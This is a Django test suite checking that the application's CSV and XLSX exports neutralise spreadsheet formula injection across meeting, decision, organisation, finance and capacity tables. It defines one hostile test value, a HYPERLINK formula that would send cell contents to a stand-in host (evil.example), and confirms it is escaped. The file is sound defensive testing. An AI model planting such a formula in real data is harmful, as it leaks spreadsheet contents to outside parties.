"""Table exports write text that looks like a formula as text (OWASP CSV injection).

Each export is fetched through Django's client with a signed-in reader, with a row whose
text is a formula; CSV must carry it with a leading quote, XLSX as a string cell.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from samenspel.agenda.tests.factories import AgendaFactory, AgreementFactory
from samenspel.decisions.tests.factories import ProposalFactory
from samenspel.finance.models import BudgetLine, BudgetYear, Project
from samenspel.meetings.constants import InvitationSource, OutcomeKind
from samenspel.meetings.models import Invitation
from samenspel.meetings.outcomes import outcome_record
from samenspel.meetings.tests.factories import (
    ActionFactory,
    AgendaItemFactory,
    MeetingFactory,
    aware,
)
from samenspel.organisations.associations import association_default
from samenspel.organisations.constants import BodyKind
from samenspel.organisations.models import Organisation, Portfolio
from samenspel.organisations.tests.factories import (
    BodyFactory,
    InhabitantCountFactory,
    MembershipFactory,
    OrganisationFactory,
    PersonFactory,
    PostFactory,
)
from samenspel.web.exports import table_response

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _csv_cells(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_neutralised(client, url: str, separator: str = "?") -> None:
    csv_response = client.get(f"{url}{separator}format=csv")
    assert csv_response.status_code == 200
    cells = _csv_cells(csv_response)
    assert "'" + EVIL in cells
    assert EVIL not in cells

    xlsx_response = client.get(f"{url}{separator}format=xlsx")
    assert xlsx_response.status_code == 200
    cells = _xlsx_cells(xlsx_response)
    evil = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
    assert evil, "the row is missing from the export"
    for cell in evil:
        assert cell.data_type == "s"
        assert cell.value == "'" + EVIL
    assert not any(c.data_type == "f" for c in cells)


@pytest.fixture
def reader(client, reader_user):
    client.force_login(reader_user)
    return client


@pytest.fixture
def meeting(portfolio):
    body = BodyFactory(kind=BodyKind.PORTFOLIO_MEETING, portfolio=portfolio, short_name="PHO X")
    return MeetingFactory(body=body, starts_at=aware(dt.date(2024, 3, 14)), place=EVIL)


def test_action_list(reader, meeting):
    ActionFactory(meeting=meeting, title=EVIL)
    assert_neutralised(reader, reverse("meetings:actions") + "?year=2024", "&")


def test_decision_list(reader, meeting):
    item = AgendaItemFactory(meeting=meeting)
    outcome_record(item=item, kind=OutcomeKind.DECISION, text=EVIL, user=None)
    assert_neutralised(reader, reverse("meetings:decisions") + "?year=2024", "&")


def test_meeting_list(reader, meeting):
    assert_neutralised(reader, reverse("meetings:list") + "?year=2024", "&")


def test_schedule(reader, meeting):
    assert_neutralised(reader, reverse("meetings:schedule", args=[2024]))


def test_proposal_list(reader):
    ProposalFactory(title=EVIL)
    assert_neutralised(reader, reverse("decisions:list"))


def test_agreement_list(reader):
    AgreementFactory(agenda=AgendaFactory(), title=EVIL)
    assert_neutralised(reader, reverse("agenda:agreements"))


def test_organisation_list(reader):
    OrganisationFactory(name=EVIL)
    assert_neutralised(reader, reverse("organisations:list"))


def test_project_list(reader):
    Project.objects.create(association=association_default(), slug="kwaad", name=EVIL)
    assert_neutralised(reader, reverse("finance:projects"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    response = table_response(fmt="csv", filename="t", columns=["a"], rows=[[start + "1"]])
    assert _csv_cells(response)[1] == "'" + start + "1"


def test_numbers_stay_numbers():
    rows = [[Decimal("-12.50"), -3, "-3", "gewoon"]]
    csv_cells = _csv_cells(table_response(fmt="csv", filename="t", columns="abcd", rows=rows))
    assert csv_cells[4:] == ["-12.50", "-3", "'-3", "gewoon"]
    xlsx = table_response(fmt="xlsx", filename="t", columns="abcd", rows=rows)
    number, integer, text, plain = _xlsx_cells(xlsx)[4:]
    assert number.data_type == "n" and number.value == -12.5
    assert integer.data_type == "n" and integer.value == -3
    assert text.data_type == "s" and text.value == "'-3"
    assert plain.value == "gewoon"


# --- the network -------------------------------------------------------------------------


def test_body_list(reader):
    BodyFactory(name=EVIL)
    assert_neutralised(reader, reverse("organisations:bodies"))


def test_body_detail(reader):
    post = PostFactory(label=EVIL)
    MembershipFactory(post=post)
    assert_neutralised(reader, reverse("organisations:body", args=[post.body.slug]))


def test_person_detail(reader):
    membership = MembershipFactory(post=PostFactory(body=BodyFactory(name=EVIL)))
    assert_neutralised(reader, reverse("organisations:person", args=[membership.person.slug]))


def test_organisation_detail_seats_and_inhabitants(reader):
    count = InhabitantCountFactory(note=EVIL)
    organisation = count.organisation
    body = BodyFactory(name=EVIL)
    MembershipFactory(post=PostFactory(body=body, organisation=organisation))
    url = reverse("organisations:detail", args=[organisation.slug])
    assert_neutralised(reader, url)
    assert_neutralised(reader, url + "?tabel=inwoners", "&")


def test_meeting_invitees(reader, meeting):
    Invitation.objects.create(
        meeting=meeting, person=PersonFactory(name=EVIL), source=InvitationSource.GUEST
    )
    assert_neutralised(reader, reverse("meetings:detail", args=[meeting.pk]))


# --- money and hours (on the VDG agenda) -------------------------------------------------


def test_budget(reader, vdg_data):
    line = BudgetLine.objects.filter(agenda=vdg_data).first()
    line.name = EVIL
    line.save()
    assert_neutralised(reader, reverse("finance:overview"))


def test_contributions_and_hours(reader, vdg_data):
    year = BudgetYear.objects.filter(agenda=vdg_data).order_by("year").first().year
    Organisation.objects.filter(slug="assen").update(name=EVIL, short_name=EVIL)
    assert_neutralised(reader, reverse("finance:contributions", args=[year]))
    assert_neutralised(reader, reverse("capacity:overview") + "?tabel=2.1", "&")


def test_realised_hours(client, bureau_user, vdg_data):
    Portfolio.objects.filter(pk=Portfolio.objects.order_by("order").first().pk).update(name=EVIL)
    client.force_login(bureau_user)
    assert_neutralised(client, reverse("capacity:record", args=["assen"]))
